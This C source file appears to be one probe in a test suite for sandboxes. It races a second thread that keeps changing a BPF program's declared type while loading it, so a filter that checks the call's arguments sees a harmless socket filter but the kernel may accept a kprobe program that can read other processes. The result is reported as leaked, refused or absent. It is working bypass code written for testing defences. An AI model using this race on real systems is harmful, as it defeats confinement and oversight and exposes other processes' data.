// SPDX-License-Identifier: Apache-2.0
// Load a program of BPF that may read processes, shown to whoever looks at the call's arguments as one that may not: another
// thread changes its type all the while.
#include <errno.h>
#include <sys/resource.h>

#include "insn.h"
#include "race.h"
#include "row.h"

static union bpf_attr attr;

// Seen by other processors.
static void show(bool harmless)
{
    __atomic_store_n(&attr.prog_type, harmless ? BPF_PROG_TYPE_SOCKET_FILTER : BPF_PROG_TYPE_KPROBE,
                     __ATOMIC_SEQ_CST);
}

static bool may_read(long program)
{
    struct bpf_prog_info info = {0};
    union bpf_attr ask = {.info = {.bpf_fd = (unsigned)program,
                                   .info_len = sizeof(info),
                                   .info = (unsigned long)&info}};
    return row_bpf(BPF_OBJ_GET_INFO_BY_FD, &ask) == 0 && info.type == BPF_PROG_TYPE_KPROBE;
}

enum row_result row_attack(const struct row_victim *victim)
{
    static struct bpf_insn program[] = {SET(BPF_REG_0, 0), END};
    enum row_result result = ROW_ABSENT;
    // Before 5.11 programs count against it, also for a while after they are closed; more are refused by EPERM.
    const struct rlimit any = {RLIM_INFINITY, RLIM_INFINITY};
    (void)victim;
    (void)setrlimit(RLIMIT_MEMLOCK, &any);
    attr = (union bpf_attr){.prog_type = BPF_PROG_TYPE_SOCKET_FILTER,
                            .insns = (unsigned long)program,
                            .insn_cnt = sizeof(program) / sizeof(program[0]),
                            .license = (unsigned long)"GPL"};
    if (!row_race_begin(show)) {
        return ROW_ABSENT;
    }
    for (int i = 0; result != ROW_LEAKED && row_race_goes_on(i, result != ROW_ABSENT); i++) {
        long loaded = row_bpf(BPF_PROG_LOAD, &attr);
        if (loaded >= 0) {
            result = may_read(loaded) ? ROW_LEAKED : result;
            close((int)loaded);
        } else if (errno == EPERM) {
            result = ROW_REFUSED;
        }
    }
    row_race_end();
    return result;
}
